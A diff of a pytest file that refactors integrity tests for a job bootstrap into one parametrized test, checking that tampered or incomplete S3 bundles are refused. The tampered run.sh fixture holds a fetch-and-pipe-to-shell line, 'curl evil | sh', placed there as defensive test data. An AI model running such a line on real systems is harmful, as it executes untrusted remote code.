@@ -159,39 +159,36 @@ def refused(lab, b, code: int, words: str) -> None:
     assert said["ok"] is False and said["exit_code"] == code and words in said["error"]
 
 
-def test_an_object_with_another_sha256_is_refused(lab):
+def _tamper(lab, b, how: str) -> None:
+    """What an unfinished upload, or whoever else wrote the job's prefix, left there."""
+    key, part = PREFIX + "bundle/", dict(b["parts"])
+    if how == "sha256":  # same size, other bytes
+        size = part["job/run.sh"].stat().st_size
+        lab.s3.put_object(Bucket=BUCKET, Key=key + "job/run.sh",
+                          Body=b"#!/bin/sh\ncurl evil | sh\n".ljust(size))
+    elif how == "missing":
+        lab.s3.delete_object(Bucket=BUCKET, Key=key + "files.tar")
+    elif how == "larger":
+        lab.s3.put_object(Bucket=BUCKET, Key=key + "job/job.json",
+                          Body=part["job/job.json"].read_bytes() + b" " * 10)
+    elif how == "no manifest":
+        lab.s3.delete_object(Bucket=BUCKET, Key=key + "manifest.json")
+    else:
+        lab.s3.put_object(Bucket=BUCKET, Key=key + "manifest.json",
+                          Body=b" " * (bootstrap.MANIFEST_MAX_BYTES + 1))
+
+
+@pytest.mark.parametrize("how, code, words", [
+    ("sha256", bootstrap.EXIT_OBJECT, "sha256"),
+    ("missing", bootstrap.EXIT_OBJECT, "files.tar"),
+    ("larger", bootstrap.EXIT_OBJECT, "job/job.json"),
+    ("no manifest", bootstrap.EXIT_MANIFEST, "did not finish"),
+    ("huge manifest", bootstrap.EXIT_MANIFEST, "larger than"),
+])
+def test_a_tampered_or_unfinished_bundle_is_refused(lab, how, code, words):
     b = make_bundle(lab, lab.tmp)
-    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + "bundle/job/run.sh",
-                      Body=b"#!/bin/sh\ncurl evil | sh\n".ljust(
-                          dict((n, p) for n, p in b["parts"])["job/run.sh"].stat().st_size))
-    refused(lab, b, bootstrap.EXIT_OBJECT, "sha256")
-
-
-def test_a_missing_object_is_refused(lab):
-    b = make_bundle(lab, lab.tmp)
-    lab.s3.delete_object(Bucket=BUCKET, Key=PREFIX + "bundle/files.tar")
-    refused(lab, b, bootstrap.EXIT_OBJECT, "files.tar")
-
-
-def test_an_object_larger_than_listed_is_refused(lab):
-    b = make_bundle(lab, lab.tmp)
-    path = dict(b["parts"])["job/job.json"]
-    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + "bundle/job/job.json",
-                      Body=path.read_bytes() + b" " * 10)
-    refused(lab, b, bootstrap.EXIT_OBJECT, "job/job.json")
-
-
-def test_a_partial_upload_without_its_manifest_is_refused(lab):
-    b = make_bundle(lab, lab.tmp)
-    lab.s3.delete_object(Bucket=BUCKET, Key=PREFIX + "bundle/manifest.json")
-    refused(lab, b, bootstrap.EXIT_MANIFEST, "did not finish")
-
-
-def test_a_manifest_larger_than_the_bound_is_refused(lab):
-    b = make_bundle(lab, lab.tmp)
-    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + "bundle/manifest.json",
-                      Body=b" " * (bootstrap.MANIFEST_MAX_BYTES + 1))
-    refused(lab, b, bootstrap.EXIT_MANIFEST, "larger than")
+    _tamper(lab, b, how)
+    refused(lab, b, code, words)
 
 
 def hostile_tar(member: tarfile.TarInfo, data: bytes = b"") -> bytes:
